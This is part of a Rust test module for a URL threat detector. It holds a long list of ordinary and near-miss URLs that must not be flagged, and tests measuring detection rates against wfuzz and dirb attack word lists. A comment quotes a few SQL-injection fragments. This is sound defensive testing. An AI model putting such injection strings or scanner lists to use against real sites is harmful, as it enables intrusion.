        "/search?term=l%27occitane+hand+cream",
        "/search?s=how+to+tie+a+tie",
        // Blog and content.
        "/blog",
        "/blog/2024/05/how-to-choose-running-shoes",
        "/blog/2023/12/31/year-in-review/",
        "/blog/category/news/page/2",
        "/blog/tag/sql",
        "/blog/tag/mysql",
        "/blog/tag/javascript",
        "/blog/author/jane-doe",
        "/blog/the-union-of-art-and-science",
        "/blog/select-the-right-size",
        "/blog/why-we-dropped-shipping-fees",
        "/blog/update-on-our-stores",
        "/blog/script-doctor-interview",
        "/blog/null-hypothesis-explained",
        "/blog/order-of-operations",
        "/blog/posts/10-tips-for-better-sleep?utm_source=newsletter",
        "/news/press-release-2024-q1.pdf",
        "/articles/what-is-an-env-file",
        "/articles/etc-and-other-abbreviations",
        "/docs/getting-started",
        "/docs/v1.2/api",
        "/docs/v2.0.1/reference/errors#not-found",
        "/docs/api/v3/orders#list-orders",
        "/docs/guides/shell-scripting-basics",
        "/docs/cli/commands/cat",
        "/docs/config/environment-variables",
        "/help/faq#shipping",
        "/help/articles/360001234567-How-do-I-return-an-item",
        "/about-us",
        "/contact?subject=order%20issue&email=jane.doe%40example.com",
        "/contact?email=o%27brien%40example.ie",
        "/careers/software-engineer-backend",
        "/events/2024/summer-sale-launch",
        "/recipes/shell-pasta-with-cheese",
        "/recipes/union-square-cafe-nuts",
        "/wiki/Union_(set_theory)",
        "/wiki/SQL",
        "/wiki/Cross-site_scripting",
        "/wiki/C%2B%2B",
        "/wiki/Caf%C3%A9",
        "/wiki/Special:Search?search=select+statement",
        "/forum/thread/12345-my-order-never-arrived?page=4#post-99",
        "/forum/t/how-do-i-use-select-in-sql/881",
        "/questions/1234/how-to-union-two-lists-in-python",
        // Static assets with dots and hashes.
        "/favicon.ico",
        "/robots.txt",
        "/sitemap.xml",
        "/sitemap_index.xml",
        "/ads.txt",
        "/manifest.json",
        "/manifest.webmanifest",
        "/service-worker.js",
        "/humans.txt",
        "/.well-known/security.txt",
        "/.well-known/apple-app-site-association",
        "/.well-known/acme-challenge/Fv7rgJ2kz1qW_xYz",
        "/.well-known/openid-configuration",
        "/assets/app.3f9a.js",
        "/assets/app.3f9a.css",
        "/static/js/main.8c2e1f4a.chunk.js",
        "/static/css/main.d1e2f3.css",
        "/_next/static/chunks/pages/_app-0d1e2f3a4b5c6d7e.js",
        "/_next/image?url=%2Fimages%2Fhero.jpg&w=1920&q=75",
        "/_nuxt/entry.9a8b7c.js",
        "/build/assets/index-BQ3x9_aF.js",
        "/fonts/inter-var.woff2",
        "/fonts/roboto-v30-latin-regular.woff2?v=2",
        "/images/products/shoe-01@2x.png",
        "/images/logo.svg",
        "/img/banners/summer_sale_2024.webp",
        "/uploads/2024/05/hero-banner.jpg",
        "/wp-content/uploads/2023/11/cover-image-1024x683.jpg",
        "/media/catalog/product/cache/1/image/9df78eab/s/h/shoe.jpg",
        "/files/manuals/user-guide-v3.pdf",
        "/downloads/catalogue-2024.pdf",
        "/cdn-cgi/image/width=800,quality=75/images/p.jpg",
        "/v1.2/docs",
        "/api/v1.0/status",
        "/js/jquery-3.7.1.min.js",
        "/js/vendor/bootstrap.bundle.min.js",
        "/css/style.min.css?ver=6.4.2",
        "/video/intro.mp4",
        "/audio/podcast-ep-12.mp3",
        "/feed.xml",
        "/rss",
        "/index.php?route=product/product&product_id=42",
        "/index.php/catalog/category/view/id/7",
        "/page.aspx?id=1002",
        "/default.asp?cat=4",
        "/view.jsp?item=77",
        "/catalog.cfm?dept=12",
        // Marketing and tracking parameters.
        "/?utm_source=google&utm_medium=cpc&utm_campaign=spring_sale&utm_term=running+shoes&utm_content=ad1",
        "/landing/black-friday?utm_source=facebook&utm_medium=social&utm_campaign=BF2024",
        "/?gclid=Cj0KCQiA4Y-sBhC6ARIsAGXF1g7bT9Qz0rEw_DmvZq3k8n5X1yK2lLm3nN4oO5pP6qQ7rR8sS9tT0uUaAkZ_EALw_wcB",
        "/?fbclid=IwAR2F4xyZ_1aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcdEFGH",
        "/?msclkid=1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d",
        "/?ttclid=E.C.P.CscBRzZlNXhk&ref=tiktok",
        "/product/42?ref=instagram&igshid=MzRlODBiNWFlZA%3D%3D",
        "/?mc_cid=a1b2c3d4e5&mc_eid=f6a7b8c9d0",
        "/?_ga=2.123456789.987654321.1700000000-1234567890.1690000000",
        "/?_gl=1*1abcd2e*_ga*MTIzNDU2Nzg5MC4xNjkwMDAwMDAw*_ga_ABC123*MTcwMDAwMDAwMC4xLjEuMTcwMDAwMDAwMC4wLjAuMA..",
        "/?ref=producthunt",
        "/?aff_id=123&sub_id=abc-def",
        "/?affiliate=jane_doe_blog&coupon=SAVE10",
        "/r?u=https%3A%2F%2Fshop.example%2Fsale&sig=9f86d081884c7d65",
        "/redirect?url=https://partner.example/offer&campaign=q4",
        "/login?next=/account/orders",
        "/login?redirect_to=%2Fcheckout%3Fstep%3D2",
        "/login?return_url=https%3A%2F%2Fshop.example%2Faccount",
        "/sso/callback?code=4%2F0AX4XfWh&state=xyz123&scope=email+profile+openid",
        "/oauth/authorize?response_type=code&client_id=abc&redirect_uri=https%3A%2F%2Fapp.example%2Fcb&scope=read+write",
        "/share?url=https%3A%2F%2Fshop.example%2Fp%2F42&text=Look+at+this%21",
        // Tokens, base64-ish values, JSON-ish filters.
        "/verify?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "/reset-password?token=dGhpcyBpcyBhIHRlc3QgdG9rZW4%3D&email=bob%40example.com",
        "/unsubscribe?id=YWJjZGVmZ2hpamtsbW5vcA==",
        "/invite/AbC123-xYz_789",
        "/s/3kTm9QxZ",
        "/download?key=a1b2c3d4e5f60718293a4b5c6d7e8f90&expires=1700000000&signature=Zm9vYmFy%2Bk%2F8%3D",
        "/products?filter=%7B%22color%22%3A%22red%22%2C%22size%22%3A%5B%22s%22%2C%22m%22%5D%7D",
        "/products?filter={\"color\":\"red\",\"price\":{\"lt\":100}}",
        "/api/search?filters=price%3C100+AND+category%3Ashoes",
        "/api/search?filters=price > 10 and price < 100",
        "/api/products?$filter=Price lt 100 and Name eq 'Milk'&$top=10",
        "/api/products?$select=Name,Price&$orderby=Price desc",
        "/api/items?fields=id,name,price&sort=-created_at",
        "/api/items?fields=name|email|phone",
        "/api/items?where=1%3D1&outFields=*&f=json",
        "/api/graphql?query=%7Bproducts(first%3A10)%7Bid%20name%7D%7D",
        "/api/v2/orders?created_at[gte]=2024-01-01&created_at[lte]=2024-01-31",
        "/api/v2/products?ids[]=1&ids[]=2&ids[]=3",
        "/api/v1/users/me/preferences?theme=dark&lang=en-GB",
        "/api/v1/cart/items/12?qty=2",
        "/api/v1/search?q=shoes&facets=brand%2Ccolor%2Csize",
        "/api/v1/track?event=add_to_cart&value=19.99&currency=EUR",
        "/api/geo?bbox=-0.489,51.28,0.236,51.686",
        "/api/address/0x742d35Cc6634C0532925a3b844Bc454e4438f44e",
        "/products?color=%23ff0000",
        "/tiles/12/2047/1362.png",
        "/maps?center=48.8566%2C2.3522&zoom=12",
        "/calendar?from=2024-06-01T00%3A00%3A00Z&to=2024-06-30T23%3A59%3A59Z",
        "/report?range=2024-01-01..2024-03-31",
        "/compare/iphone-15-vs-pixel-8",
        "/q/a%2Bb%3Dc",
        // People, emails, unicode paths.
        "/users/john.doe@example.com",
        "/u/j%C3%BCrgen.m%C3%BCller",
        "/profile/@jane_doe",
        "/caf%C3%A9/menu",
        "/café/menu",
        "/produkte/schuhe-gr%C3%B6%C3%9Fe-42",
        "/produits/chaussures-%C3%A9t%C3%A9",
        "/%E6%97%A5%E6%9C%AC%E8%AA%9E/%E3%83%9A%E3%83%BC%E3%82%B8",
        "/日本語/ページ",
        "/ru/%D0%BA%D0%B0%D1%82%D0%B0%D0%BB%D0%BE%D0%B3",
        "/ar/%D9%85%D8%AA%D8%AC%D8%B1",
        "/es/ni%C3%B1os/zapatos",
        "/%F0%9F%8E%89-party-supplies",
        "/fr-ca/nouveaut%C3%A9s?tri=prix",
        // Full URLs as some integrations send them.
        "https://shop.example/",
        "https://shop.example/products/blue-shirt?variant=123",
        "https://shop.example/search?q=o%27reilly",
        "http://shop.example:8080/cart",
        "https://www.shop.example/blog/select-the-right-union-suit",
        "https://shop.example/?utm_source=bing&utm_medium=cpc",
        "https://shop.example/.well-known/security.txt",
        // Admin-ish but legitimate app paths.
        "/admin/dashboard",
        "/admin/orders?status=pending",
        "/my-account/edit-address/billing",
        "/dashboard/settings/notifications",
        "/settings/security/two-factor",
        "/healthz",
        "/status",
        "/api/health",
        "/metrics",
        "/graphql",
        "/ws/notifications",
        "/embed/video/abc123?autoplay=1&mute=1",
        "/amp/blog/how-to-choose",
        "/print/invoice/INV-2024-0042.pdf",
        "/invoice/INV-2024-0042?format=pdf",
        "/export/orders.csv?from=2024-01-01",
        "/feeds/products.xml?store=uk",
        "/wp-json/wc/store/v1/cart",
        "/wp-admin/admin-ajax.php?action=woocommerce_get_refreshed_fragments",
        "/wp-admin/admin-ajax.php",
        "/?wc-ajax=get_refreshed_fragments",
        "/go?redir=https://partner.example/offer",
        "/lp?landing_page=https://shop.example/sale&homepage=https://shop.example/",
        "/auth/callback?return_path=https://shop.example/account",
        "/wp-content/themes/storefront/style.css?ver=4.5.3",
        "/wp-content/plugins/woocommerce/assets/js/frontend/cart.min.js?ver=8.2.1",
        "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
        "/?s=select+sofa&post_type=product",
        "/?p=123",
        "/?page_id=42",
        "/?add-to-cart=99&quantity=2",
        "/?lang=fr&currency=EUR",
        "/tag/drop-shipping/",
        "/category/uncategorized/",
        "/2024/05/12/hello-world/",
        "/comments/feed/",
        "/page/3/?orderby=popularity",
        "/shop/?orderby=price-desc&paged=2",
        "/shop/?filter_color=red,blue&query_type_color=or",
        "/shop/?min_price=10&max_price=100&rating_filter=4",
        "/product-category/clothing/?filter_size=m&orderby=date",
        "/search/?q=union+square+hotel&checkin=2024-07-01&checkout=2024-07-03",
        "/hotels/new-york/union-square?guests=2&rooms=1",
        "/flights?from=LHR&to=JFK&date=2024-08-15&adults=2",
        "/jobs?title=sql+developer&location=remote",
        "/jobs?q=script+supervisor",
        "/courses/sql-select-statements-101",
        "/courses/javascript-alert-and-prompt-basics",
        "/tutorials/bash/cat-command",
        "/tutorials/linux/etc-passwd-explained",
        // Near misses: attack vocabulary without attack syntax.
        "/search?q=it%27s%20--%20fine",
        "/search?q=%22foo%22+--+bar",
        "/search?q=sleep(8hrs)",
        "/search?q=excel+char(10)+new+line",
        "/search?q=%3Cdiv%3E+tag+tutorial",
        "/search?q=rock+%27n%27+roll+and+blues",
        "/search?q=o%27neil+or+o%27brien",
        "/search?q=%22best+of%22+or+%22greatest+hits%22",
        "/search?q=the+%27and%27+operator",
        "/search?q=%3C3+you",
        "/search?q=size%3C10",
        "/search?q=${name}+template",
        "/search?q={{name}}",
        "/product/{{product.id}}",
        "/search?q=1+union+2",
        "/search?q=benchmark+results",
        "/search?q=ls+-la+command",
        "/search?q=--help",
        "/search?q=%23mysql",
        "/search?q=%271%27+seller",
        "/search?q=tom%27s+(new)+%27collection%27",
        "/search?q=M%26M%27s",
        "/search?q=AT%26T+phones",
        "/search?q=%26lt%3B3",
        "/search?q=%C3%A9t%C3%A9+%E2%80%99s",
        "/search?q=don%E2%80%99t+or+won%E2%80%99t",
        "/filter?tags=red|blue|green",
        "/filter?cols=sku|id|price",
        "/contact?msg=Hi%0D%0ALocation:+London",
        "/contact?msg=line1%0Aline2%3A+x",
        "/go?url=https://example.com/search?",
        "/share?u=https://example.com/?ref=x&t=1",
        "/blog/wp-admin-tips",
        "/blog/how-to-secure-wp-login-php",
        "/p/.hidden-gem-necklace",
        "/git/config-guide",
        "/download/backup-tool.zip",
        "/files/report.sql.txt",
        "/images/thumb.php?src=hero.jpg&w=300",
        "/media/index.php",
        "/products/shell.jpg",
        "/blog/my-c99-review",
        "/cgi-bin-migration-guide",
        "/t?d=data:image/png;base64,iVBORw0KGgo=",
        "/api/v1/objects?filter[name][like]=shoe%25",
        "/search?q=50%+off",
        "/search?q=%zz",
        "/p?json={\"q\":\"o'reilly\",\"n\":1}",
        "/p?f=name+eq+'O''Brien'",
    ];

    #[test]
    fn ordinary_urls_are_never_flagged() {
        assert!(
            ORDINARY.len() >= 300,
            "only {} ordinary URLs",
            ORDINARY.len()
        );
        let d = detector();
        let flagged: Vec<String> = ORDINARY
            .iter()
            .filter_map(|url| {
                let facts = d.inspect(url);
                facts.threat.map(|_| format!("{url} -> {}", facts.evidence))
            })
            .collect();
        assert!(
            flagged.is_empty(),
            "{} of {} ordinary URLs flagged:\n{}",
            flagged.len(),
            ORDINARY.len(),
            flagged.join("\n")
        );
    }

    const WFUZZ: &str = "/usr/share/wfuzz/wordlist";
    const DIRB: &str = "/usr/share/dirb/wordlists";

    /// Reads a word list shipped by a Debian package. Missing lists fail the test: the
    /// detection floors below are part of this module's contract.
    fn word_list(path: &str) -> Vec<String> {
        read_list(path, false)
    }

    /// A list whose lines starting with `#` are comments (dirTraversal.txt's header).
    fn template_list(path: &str) -> Vec<String> {
        read_list(path, true)
    }

    fn read_list(path: &str, hash_comments: bool) -> Vec<String> {
        let bytes = std::fs::read(path).unwrap_or_else(|e| {
            panic!("cannot read {path} ({e}); run `apt-get install wfuzz dirb` to get the attack word lists")
        });
        String::from_utf8_lossy(&bytes)
            .lines()
            .map(|l| l.trim_end_matches(['\r', '\n']).to_owned())
            // Blank lines are not payloads; in the attack lists a lone "#" is (a SQL comment).
            .filter(|l| !(l.trim().is_empty() || (hash_comments && l.starts_with('#'))))
            .collect()
    }

    /// Whether a payload is an attack on its own. Fuzzing lists mix real payloads with single
    /// characters (`'`, `|`, `(`) and bare words (`select`, `order by`, `1e100`) that are only
    /// useful to watch how an application reacts; in a URL they are indistinguishable from
    /// ordinary input, so they are excluded from the rate. The rule is generic, applied to the
    /// normalised payload: no letter or digit at all, or nothing but letters, digits, spaces and
    /// `_ @ , .`.
    fn standalone_attack(payload: &str) -> bool {
        let norm = normalise(payload.as_bytes(), true);
        let text = String::from_utf8_lossy(&norm);
        let text = text.trim();
        let has_alnum = text.chars().any(|c| c.is_ascii_alphanumeric());
        let only_words = text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, ' ' | '_' | '@' | ',' | '.'));
        has_alnum && !only_words
    }

    struct Rate {
        name: String,
        hits: usize,
        total: usize,
        misses: Vec<String>,
    }

    impl Rate {
        fn percent(&self) -> f64 {
            if self.total == 0 {
                0.0
            } else {
                100.0 * self.hits as f64 / self.total as f64
            }
        }
    }

    /// Runs `make_url(payload)` for each payload and counts how many are flagged (any kind).
    fn measure(name: &str, payloads: &[String], make_url: impl Fn(&str) -> String) -> Rate {
        let d = detector();
        let mut rate = Rate {
            name: name.to_owned(),
            hits: 0,
            total: 0,
            misses: Vec::new(),
        };
        for p in payloads {
            let url = make_url(p);
            rate.total += 1;
            if d.inspect(&url).threat.is_some() {
                rate.hits += 1;
            } else {
                rate.misses.push(url);
            }
        }
        rate
    }

    fn report(rate: &Rate) {
        eprintln!(
            "{:<58} {:>4}/{:<4} {:6.1}%",
            rate.name,
            rate.hits,
            rate.total,
            rate.percent()
        );
        if std::env::var_os("THREAT_URL_SHOW_MISSES").is_some() {
            for m in &rate.misses {
                eprintln!("    miss: {m}");
            }
        }
    }

    fn as_query(p: &str) -> String {
        format!("/search?q={p}")
    }

    fn as_path(p: &str) -> String {
        if p.starts_with('/') {
            p.to_owned()
        } else {
            format!("/{p}")
        }
    }

    fn assert_floor(rate: &Rate, floor: f64) {
        assert!(
            rate.percent() >= floor,
            "{}: {:.1}% detected, floor {floor}%; misses:\n{}",
            rate.name,
            rate.percent(),
            rate.misses.join("\n")
        );
    }

    #[test]
    fn wfuzz_injection_lists() {
        let sql_all = word_list(&format!("{WFUZZ}/Injections/SQL.txt"));
        let sql: Vec<String> = sql_all
            .iter()
            .filter(|p| standalone_attack(p))
            .cloned()
            .collect();
        let sql_inj_all = word_list(&format!("{WFUZZ}/vulns/sql_inj.txt"));
        let sql_inj: Vec<String> = sql_inj_all
            .iter()
            .filter(|p| standalone_attack(p))
            .cloned()
            .collect();
        let xss = word_list(&format!("{WFUZZ}/Injections/XSS.txt"));
        let xml = word_list(&format!("{WFUZZ}/Injections/XML.txt"));
        let trav = word_list(&format!("{WFUZZ}/Injections/Traversal.txt"));
        let all_all = word_list(&format!("{WFUZZ}/Injections/All_attack.txt"));
        let all: Vec<String> = all_all
            .iter()
            .filter(|p| standalone_attack(p))
            .cloned()
            .collect();

        let rates = [
            (
                measure(
                    "wfuzz Injections/SQL.txt (all entries, query)",
                    &sql_all,
                    as_query,
                ),
                None,
            ),
            (
                measure(
                    "wfuzz Injections/SQL.txt (standalone attacks, query)",
                    &sql,
                    as_query,
                ),
                Some(90.0),
            ),
            (
                measure(
                    "wfuzz vulns/sql_inj.txt (all entries, query)",
                    &sql_inj_all,
                    as_query,
                ),
                None,
            ),
            // 5 of its 38 standalone entries carry no syntax that tells them from ordinary input:
            // `admin'`, `'test`, `now()`, `#mysql`, `--ora_sqls`.
            (
                measure(
                    "wfuzz vulns/sql_inj.txt (standalone attacks, query)",
                    &sql_inj,
                    as_query,
                ),
                Some(85.0),
            ),
            (
                measure("wfuzz Injections/XSS.txt (query)", &xss, as_query),
                Some(95.0),
            ),
            (
                measure("wfuzz Injections/XML.txt (query)", &xml, as_query),
                Some(90.0),
            ),
            (
                measure("wfuzz Injections/Traversal.txt (query)", &trav, as_query),
                Some(95.0),
            ),
            (
                measure("wfuzz Injections/Traversal.txt (path)", &trav, as_path),
                Some(95.0),
            ),
            (
                measure(
                    "wfuzz Injections/All_attack.txt (all entries, query)",
                    &all_all,
                    as_query,
                ),
                None,
            ),
            // A fuzzing mix: besides real payloads it holds numbers (-1, 2147483647), format strings
            // (%8.8x) and escaped control characters (\0, \t, #xD) that probe for crashes, not
            // for injection, so its floor is lower.
            (
                measure(
                    "wfuzz Injections/All_attack.txt (standalone, query)",
                    &all,
                    as_query,
                ),
                Some(80.0),
            ),
        ];
        for (rate, _) in &rates {
            report(rate);
        }
        for (rate, floor) in &rates {
            if let Some(floor) = floor {
                assert_floor(rate, *floor);
            }
        }
    }

    #[test]
    fn wfuzz_traversal_lists() {
        let nix = word_list(&format!("{WFUZZ}/vulns/dirTraversal-nix.txt"));
        let win = word_list(&format!("{WFUZZ}/vulns/dirTraversal-win.txt"));
        // dirTraversal.txt is a template: "{FILE}" is the file to reach. Filling in a harmless
        // name measures the traversal sequences themselves, not a sensitive file name.
        let generic: Vec<String> = template_list(&format!("{WFUZZ}/vulns/dirTraversal.txt"))
            .iter()
            .map(|l| l.replace("{FILE}", "static/site.css"))
            .collect();
        let rates = [
            (
                measure("wfuzz vulns/dirTraversal-nix.txt (query)", &nix, as_query),
                95.0,
            ),
            (
                measure("wfuzz vulns/dirTraversal-nix.txt (path)", &nix, as_path),
                95.0,
            ),
            (
                measure("wfuzz vulns/dirTraversal-win.txt (query)", &win, as_query),
                95.0,
            ),
            (
                measure("wfuzz vulns/dirTraversal-win.txt (path)", &win, as_path),
                95.0,
            ),
            (
                measure(
                    "wfuzz vulns/dirTraversal.txt {FILE}=static/site.css (query)",
                    &generic,
                    as_query,
                ),
                90.0,
            ),
            (
                measure(
                    "wfuzz vulns/dirTraversal.txt {FILE}=static/site.css (path)",
                    &generic,
                    as_path,
                ),
                90.0,
            ),
        ];
        for (rate, _) in &rates {
            report(rate);
        }
        for (rate, floor) in &rates {
            assert_floor(rate, *floor);
        }
    }

    #[test]
    fn dirb_vuln_lists() {
        let mut names: Vec<String> = std::fs::read_dir(format!("{DIRB}/vulns"))
            .unwrap_or_else(|e| {
                panic!("cannot list {DIRB}/vulns ({e}); run `apt-get install wfuzz dirb`")
            })
            .filter_map(|e| e.ok())
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.ends_with(".txt"))
            .collect();
        names.sort();
        let mut rates = Vec::new();
        for name in &names {
            let list = word_list(&format!("{DIRB}/vulns/{name}"));
            let list: Vec<String> = list.iter().map(|l| l.trim().to_owned()).collect();
            rates.push(measure(
                &format!("dirb vulns/{name} (path)"),
                &list,
                as_path,
            ));
        }
        for rate in &rates {
            report(rate);
        }
        // Most of dirb's vulns lists fingerprint a product by asking for its ordinary pages
        // (/index.html, /search, /images, /app, /test): an ordinary site serves the same paths,
        // so those lists are reported, not asserted. The admin consoles below exist only on the
        // product they name and nobody but an administrator or a scanner asks for them.
        for (name, floor) in [("coldfusion.txt", 95.0), ("jboss.txt", 90.0)] {
            let rate = rates
                .iter()
                .find(|r| r.name.contains(name))
                .unwrap_or_else(|| {
                    panic!("{DIRB}/vulns/{name} missing; run `apt-get install wfuzz dirb`")
                });
            assert_floor(rate, floor);
        }
    }
}
